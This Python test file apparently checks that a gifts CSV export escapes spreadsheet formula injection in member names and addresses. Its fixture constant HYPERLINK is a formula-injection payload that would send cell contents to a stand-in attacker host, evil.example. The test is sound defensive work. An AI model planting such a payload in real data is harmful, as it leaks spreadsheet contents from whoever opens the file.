"""The gifts export, read by a fulfilment team in a spreadsheet: a member whose name or
address begins like a formula (a sign-up form is hostile input) is exported as text."""

from __future__ import annotations

import csv
import io
from datetime import datetime

import sqlalchemy as sa

from domain.campaign import Reward
from nudgeflow.money import Money
from providers.gifts import GiftIssuer, format_gifts, list_gifts
from providers.recording import RecordingIssuer, member_from_row
from store.reward_tables import load_member
from store.schema import members
from tests.campaigns import make_campaign

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Click")'


def test_a_gift_for_a_hostile_name_exports_as_text(engine: sa.Engine) -> None:
    stamp = datetime(2026, 1, 1)
    with engine.begin() as connection:
        pk = connection.execute(
            sa.insert(members).values(
                member_id="g1",
                email="g1@example.com",
                first_name=HYPERLINK,
                last_name="Lovelace",
                country="FR",
                attributes={
                    "address_line1": "+1 Rue de Rivoli",
                    "city": "@Paris",
                    "postal_code": "-75001",
                },
                email_opt_in=True,
                row_hash="x",
                created_at=stamp,
                updated_at=stamp,
            )
        ).inserted_primary_key[0]
        row = load_member(connection, pk)
    assert row is not None
    issuer = RecordingIssuer(engine, {"gift": GiftIssuer(engine)})
    mug = Reward("gift", Money(500, "USD"), item="mug")
    issuer.issue("0" * 32, make_campaign("loyal", name="Loyal"), mug, member_from_row(row))

    with engine.connect() as connection:
        listed = list_gifts(connection)
    [exported] = list(csv.DictReader(io.StringIO(format_gifts(listed, "csv"))))
    assert exported["recipient"] == "'" + HYPERLINK + " Lovelace"
    assert (exported["address_line1"], exported["city"]) == ("'+1 Rue de Rivoli", "'@Paris")
    assert exported["postal_code"] == "-75001"  # a plain number: left as it is
    assert exported["cost"] == "5.00"
    assert listed[0]["recipient"] == HYPERLINK + " Lovelace"  # JSON keeps the value as it is
